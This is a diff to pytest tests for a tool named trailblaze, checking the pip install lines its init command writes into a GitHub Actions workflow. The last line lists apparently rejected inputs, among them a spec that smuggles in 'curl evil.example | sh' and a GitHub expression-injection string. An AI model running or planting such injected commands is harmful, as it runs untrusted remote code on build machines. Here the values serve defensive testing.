@@ -138,21 +138,29 @@ def _installs(workflow: Path) -> dict[str, str]:
 @pytest.mark.parametrize(
     ("spec", "android", "ios", "report"),
     [
-        ("0.2.0", "trailblaze[android]==0.2.0", "trailblaze[ios]==0.2.0", "trailblaze==0.2.0"),
+        ("0.2.0", '"trailblaze[android]==0.2.0"', '"trailblaze[ios]==0.2.0"', '"trailblaze==0.2.0"'),
         (
             "dist/trailblaze-0.2.0-py3-none-any.whl",
-            "dist/trailblaze-0.2.0-py3-none-any.whl[android]",
-            "dist/trailblaze-0.2.0-py3-none-any.whl[ios]",
-            "dist/trailblaze-0.2.0-py3-none-any.whl",
+            '"dist/trailblaze-0.2.0-py3-none-any.whl[android]" "dist/trailblaze_android-0.2.0-py3-none-any.whl"',
+            '"dist/trailblaze-0.2.0-py3-none-any.whl[ios]" "dist/trailblaze_ios-0.2.0-py3-none-any.whl"',
+            '"dist/trailblaze-0.2.0-py3-none-any.whl"',
+        ),
+        (  # before a release the driver comes from the same repository, not the index
+            "git+https://github.com/you/trailblaze@main",
+            '"trailblaze @ git+https://github.com/you/trailblaze@main" '
+            '"trailblaze-android @ git+https://github.com/you/trailblaze@main#subdirectory=drivers/android"',
+            '"trailblaze @ git+https://github.com/you/trailblaze@main" '
+            '"trailblaze-ios @ git+https://github.com/you/trailblaze@main#subdirectory=drivers/ios"',
+            '"trailblaze @ git+https://github.com/you/trailblaze@main"',
         ),
         (
-            "git+https://github.com/you/trailblaze@main",
-            "trailblaze[android] @ git+https://github.com/you/trailblaze@main",
-            "trailblaze[ios] @ git+https://github.com/you/trailblaze@main",
-            "trailblaze @ git+https://github.com/you/trailblaze@main",
+            "https://example.com/trailblaze-0.2.0-py3-none-any.whl",
+            '"trailblaze[android] @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
+            '"trailblaze[ios] @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
+            '"trailblaze @ https://example.com/trailblaze-0.2.0-py3-none-any.whl"',
         ),
     ],
-    ids=["version", "wheel", "vcs"],
+    ids=["version", "wheel", "vcs", "url"],
 )
 def test_init_pip_spec_sets_what_the_workflow_installs(
     tmp_path: Path, spec: str, android: str, ios: str, report: str
@@ -161,10 +169,11 @@ def test_init_pip_spec_sets_what_the_workflow_installs(
     assert done.returncode == 0, done.stderr
     installs = _installs(tmp_path / ".github" / "workflows" / "trailblaze.yml")
     assert installs == {
-        "android": f'pip install "{android}"',
-        "ios": f'pip install "{ios}"',
-        "report": f'pip install "{report}"',
+        "android": f"pip install {android}",
+        "ios": f"pip install {ios}",
+        "report": f"pip install {report}",
     }
+    assert "before the first release" not in done.stdout  # the spec chosen is what installs
 
 
 def test_init_installs_this_version_without_pip_spec(tmp_path: Path) -> None:
@@ -176,6 +185,11 @@ def test_init_installs_this_version_without_pip_spec(tmp_path: Path) -> None:
         "android": f'pip install "trailblaze[android]=={__version__}"',
         "report": f'pip install "trailblaze=={__version__}"',
     }
+    # issue 48 item 8: until that version is on the index, init says what installs instead
+    assert (
+        f"note: the workflow installs trailblaze=={__version__} from PyPI; before the first release is there, "
+        "run init again with --pip-spec git+https://github.com/YOU/trailblaze@main"
+    ) in done.stdout
 
 
 @pytest.mark.parametrize("spec", ['0.2" && curl evil.example | sh', "${{ github.event.issue.title }}", "not a spec", ""])
